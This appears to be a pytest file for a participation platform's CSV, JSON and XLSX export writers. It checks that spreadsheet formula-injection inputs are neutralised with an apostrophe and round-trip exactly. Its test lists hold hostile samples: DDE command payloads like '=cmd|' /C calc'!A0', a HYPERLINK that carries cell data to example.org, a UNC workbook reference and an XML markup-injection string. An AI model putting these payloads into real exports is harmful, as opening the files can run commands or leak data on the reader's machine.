"""What people type to harm a spreadsheet reaches it as text, in every file, and can be read back."""

import csv
import io
import json
from datetime import UTC, datetime
from itertools import chain, product
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from participation.kernel.tables import Audience, Column, ColumnKind, Table
from participation.results.writers.cells import guarded, is_live, unguarded
from participation.results.writers.csv import csv_bytes
from participation.results.writers.json import json_bytes
from participation.results.writers.xlsx import xlsx_file

LIVE = [
    "=1+1",
    "+49 30 123",
    "-5 Grad",
    "- mehr Bäume",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1;"klick")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tText",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\x85=1+1",
    "\ufeff=1+1",
    "'=1+1",
    '"=1+1"',
    "„=1+1“",
    "\x00=1+1",
    "\x1b \"'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
INSIDE = [
    "Bank,=1+1",
    "Bank; =1+1",
    "Bank\n=cmd|' /C calc'!A0\nTisch",
    "Bank\r\n=1+1",
    "Bank\t@SUM(A1)",
    'Bank, "=1+1"',
    "Bank,'=1+1",
    "Bank,\u200b＝A1",
    "Bank,＠A1",
    "Bank,＋SUM(A1)",
    "Bank\n-2+cmd|' /C calc'!A0",
    "Bank,+HYPERLINK(A1)",
    "Bank,－SUM(A1)",
    "Bank\n-'\\\\server\\[mappe.xlsx]Blatt'!A1",
    "Bank\n\n=1+1,=2+2",
]
HARMLESS = [
    "Bank am Fluss",
    "1 + 1 = 2",
    "'s Gravenweg",
    "„Zitat“",
    "(= so)",
    "Wir wünschen uns:\n- mehr Bäume\n- mehr Bänke",
    "Das kostet 5,- Euro",
    "Tel.: 030 123, +49 30 123\n(abends)",
    "Rad- und Fußweg, a=b",
    "https://example.org/?a=1",
    "",
    "'",
    "01067",
    "2026-05-01",
    "_x000D_",
    "<b>&amp;</b>",
    "😀",
]


def table(texts: list[str]) -> Table:
    columns = tuple(
        Column(name, "Spalte", Audience.PUBLIC, kind, "Was jemand schrieb.")
        for name, kind in (("text", ColumnKind.TEXT), ("link", ColumnKind.URL))
    )
    return Table("texte", "Texte", columns, lambda: ((text, text) for text in texts))


def without_controls(text: str) -> str:
    return "".join(sign for sign in text if sign >= " " or sign in "\t\r\n")


def sheet(texts: list[str], path: Path) -> list[tuple[object, object]]:
    xlsx_file([table(texts)], path, created=datetime(2026, 5, 1, tzinfo=UTC))
    _, *rows = load_workbook(path)["Texte"].iter_rows(values_only=True)
    return [(row[0], row[1]) for row in rows]


@pytest.mark.parametrize("text", LIVE)
def test_a_live_text_is_recognised_and_gets_an_apostrophe(text: str) -> None:
    assert is_live(text)
    assert guarded(text).startswith("'")
    assert guarded(text).replace("'", "") == text.replace("'", "")
    assert is_live(f" {text}")
    assert is_live(f"'{text}"), "or else reading it back could go wrong"


@pytest.mark.parametrize("text", INSIDE)
def test_a_formula_that_a_wrong_separator_would_lay_bare_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) != text
    assert guarded(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize("text", [*LIVE, *INSIDE, *HARMLESS])
def test_what_was_guarded_can_be_read_back_exactly(text: str) -> None:
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("length", range(6))
def test_every_short_text_can_be_read_back_however_often_it_was_guarded(length: int) -> None:
    for signs in product("=-'\n,( a", repeat=length):
        text = "".join(signs)
        assert unguarded(guarded(text)) == text
        assert unguarded(guarded(guarded(text))) == guarded(text)


@pytest.mark.parametrize(
    "text", [" '" * 500_000 + "a", ",-" * 500_000, ",'" * 500_000, ",- " * 300_000 + "("]
)
def test_a_long_text_cannot_keep_the_search_for_formulas_busy(text: str) -> None:
    assert not is_live(text)
    assert len(guarded(text)) <= len(text) + 1


def test_no_cell_of_a_csv_file_is_live() -> None:
    _, *rows = read(LIVE + INSIDE + HARMLESS, ";")
    for row, original in zip(rows, LIVE + INSIDE + HARMLESS, strict=True):
        for cell in row:
            assert cell.startswith("'") or not is_live(cell)
            assert unguarded(cell) == without_controls(original)


@pytest.mark.parametrize("separator", [",", "\t"])
def test_no_cell_of_a_csv_file_is_live_either_when_opened_with_a_wrong_separator(separator: str) -> None:
    for cell in chain.from_iterable(read(LIVE + INSIDE + HARMLESS, separator)):
        bare = cell.lstrip(' "\u200b')
        assert bare[:1] not in set("=@＝＠"), cell
        assert bare[:1] not in set("+-＋－") or "(" not in bare, cell


def read(texts: list[str], separator: str) -> list[list[str]]:
    """The CSV file taken apart as spreadsheets do, head included."""
    text = b"".join(csv_bytes(table(texts))).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def test_a_workbook_holds_every_text_as_text_and_not_one_formula(tmp_path: Path) -> None:
    path = tmp_path / "texte.xlsx"
    rows = sheet(LIVE + INSIDE + HARMLESS, path)
    for row, original in zip(rows, LIVE + INSIDE + HARMLESS, strict=True):
        expected = without_controls(original).replace("\r\n", "\n").replace("\r", "\n") or None
        # openpyxl does not undo the escape that keeps a literal _x000D_ literal
        assert [str(cell).replace("_x005F_", "_") if cell else None for cell in row] == [expected, expected]
    for content in parts(path, "xl/worksheets/sheet"):
        assert "<f>" not in content
        assert "<hyperlink" not in content


def test_text_posing_as_the_markup_of_a_workbook_stays_text(tmp_path: Path) -> None:
    attack = '<r><t>x</t></r></is></c><c r="C2"><f>1+1</f></c><c t="inlineStr"><is><r><t>y</t></r>'
    path = tmp_path / "texte.xlsx"
    assert sheet([attack, f"\x00{attack}"], path) == [(f"{attack} ", f"{attack} ")] * 2
    assert not any("<f>" in content for content in parts(path, "xl/worksheets/sheet"))


def test_an_edited_cell_of_a_workbook_does_not_wake_up_either(tmp_path: Path) -> None:
    path = tmp_path / "texte.xlsx"
    sheet(["=1+1", "Bank"], path)
    styles = {cell.value: cell.quotePrefix for cell in load_workbook(path)["Texte"]["A"]}
    assert (styles["=1+1"], bool(styles["Bank"])) == (True, False)


def test_json_gives_every_text_back_as_it_was() -> None:
    rows = json.loads(b"".join(json_bytes(table(LIVE + INSIDE + HARMLESS))))
    assert [row["text"] for row in rows] == LIVE + INSIDE + HARMLESS


def parts(path: Path, prefix: str) -> list[str]:
    with ZipFile(path) as archive:
        return [archive.read(name).decode() for name in archive.namelist() if name.startswith(prefix)]
